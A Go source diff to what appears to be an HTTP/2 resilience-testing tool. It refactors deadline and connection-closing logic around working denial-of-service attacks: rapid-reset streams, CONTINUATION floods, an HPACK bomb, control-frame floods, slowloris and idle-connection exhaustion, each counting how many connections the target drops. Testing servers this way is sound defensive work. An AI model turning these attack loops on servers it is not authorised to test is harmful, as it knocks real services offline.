@@ -60,7 +60,7 @@ var scenarios = []scenario{
 	{name: "zero-window", run: slowReader(true), slow: true},
 	{name: "socket-slow-reader", run: slowReader(false), slow: true},
 	{name: "slowloris-http1", run: slowloris, slow: true},
-	{name: "idle-connections", run: idleConns},
+	{name: "idle-connections", run: idleConns, slow: true},
 }
 
 func main() {
@@ -250,17 +250,21 @@ func dialH2(ctx context.Context, addr string, read bool, settings ...http2.Setti
 		nc.Close()
 		return nil, err
 	}
+	// Blocked writes and reads end with the scenario; the caller
+	// closes the connection after counting.
+	if dl, ok := ctx.Deadline(); ok {
+		nc.SetDeadline(dl)
+	}
 	if read {
 		go c.readLoop()
 	}
-	go func() { <-ctx.Done(); nc.Close() }()
 	return c, nil
 }
 
 // lost records a failed write: the target closed the connection, unless
-// the attack is over and closed it itself.
-func (c *h2conn) lost(ctx context.Context) {
-	if ctx.Err() == nil {
+// the scenario's deadline ended the write.
+func (c *h2conn) lost(err error) {
+	if !isTimeout(err) {
 		c.closed.Store(true)
 	}
 }
@@ -269,7 +273,7 @@ func (c *h2conn) readLoop() {
 	for {
 		f, err := c.fr.ReadFrame()
 		if err != nil {
-			if !errors.Is(err, net.ErrClosed) {
+			if !errors.Is(err, net.ErrClosed) && !isTimeout(err) {
 				c.closed.Store(true)
 				if os.Getenv("ATTACK_DEBUG") != "" {
 					fmt.Fprintf(os.Stderr, "read: %v\n", err)
@@ -315,21 +319,31 @@ func fleet(ctx context.Context, cfg *config, n int, read bool, settings []http2.
 	}
 	<-ctx.Done()
 	wg.Wait()
+	return len(conns), closeAll(conns)
+}
+
+// closeAll closes the attacking connections and returns how many of them
+// the target had closed.
+func closeAll(conns []*h2conn) int {
 	closed := 0
 	for _, c := range conns {
 		if c.closed.Load() {
 			closed++
 		}
+		c.nc.Close()
 	}
-	return len(conns), closed
+	return closed
 }
 
 func rapidReset(ctx context.Context, cfg *config) (int, int) {
 	return fleet(ctx, cfg, 4, true, nil, func(ctx context.Context, c *h2conn) {
 		for id := uint32(1); id < 1<<31 && ctx.Err() == nil; id += 2 {
-			if c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.headers(cfg.normal), EndStream: true, EndHeaders: true}) != nil ||
-				c.fr.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
-				c.lost(ctx)
+			err := c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.headers(cfg.normal), EndStream: true, EndHeaders: true})
+			if err == nil {
+				err = c.fr.WriteRSTStream(id, http2.ErrCodeCancel)
+			}
+			if err != nil {
+				c.lost(err)
 				return
 			}
 		}
@@ -344,8 +358,8 @@ func continuationFlood(ctx context.Context, cfg *config) (int, int) {
 			return
 		}
 		for ctx.Err() == nil {
-			if c.fr.WriteContinuation(1, false, junk) != nil {
-				c.lost(ctx)
+			if err := c.fr.WriteContinuation(1, false, junk); err != nil {
+				c.lost(err)
 				return
 			}
 		}
@@ -366,13 +380,13 @@ func hpackBomb(ctx context.Context, cfg *config) (int, int) {
 		for id := uint32(3); ctx.Err() == nil; id += 2 {
 			frag := bomb
 			if err := c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: frag[:min(len(frag), 16000)], EndStream: true, EndHeaders: len(frag) <= 16000}); err != nil {
-				c.lost(ctx)
+				c.lost(err)
 				return
 			}
 			for frag = frag[min(len(frag), 16000):]; len(frag) > 0; {
 				n := min(len(frag), 16000)
-				if c.fr.WriteContinuation(id, n == len(frag), frag[:n]) != nil {
-					c.lost(ctx)
+				if err := c.fr.WriteContinuation(id, n == len(frag), frag[:n]); err != nil {
+					c.lost(err)
 					return
 				}
 				frag = frag[n:]
@@ -385,8 +399,8 @@ func controlFlood(write func(*http2.Framer) error) func(context.Context, *config
 	return func(ctx context.Context, cfg *config) (int, int) {
 		return fleet(ctx, cfg, 4, true, nil, func(ctx context.Context, c *h2conn) {
 			for ctx.Err() == nil {
-				if write(c.fr) != nil {
-					c.lost(ctx)
+				if err := write(c.fr); err != nil {
+					c.lost(err)
 					return
 				}
 			}
@@ -429,7 +443,7 @@ func slowReader(zeroWindow bool) func(context.Context, *config) (int, int) {
 // probeClosed reports whether the peer closed nc: reading what it holds
 // ends in EOF or a reset rather than a timeout.
 func probeClosed(nc net.Conn) bool {
-	nc.SetReadDeadline(time.Now().Add(2 * time.Second))
+	nc.SetDeadline(time.Now().Add(2 * time.Second))
 	_, err := io.Copy(io.Discard, nc)
 	var ne net.Error
 	if errors.As(err, &ne) && ne.Timeout() {
@@ -494,16 +508,13 @@ func idleConns(ctx context.Context, cfg *config) (int, int) {
 		}
 		c, err := dialH2(ctx, cfg.h2, true)
 		if err != nil {
+			if os.Getenv("ATTACK_DEBUG") != "" {
+				fmt.Fprintf(os.Stderr, "idle connection %d: %v\n", len(conns), err)
+			}
 			break
 		}
 		conns = append(conns, c)
 	}
 	<-ctx.Done()
-	closed := 0
-	for _, c := range conns {
-		if c.closed.Load() {
-			closed++
-		}
-	}
-	return len(conns), closed
+	return len(conns), closeAll(conns)
 }
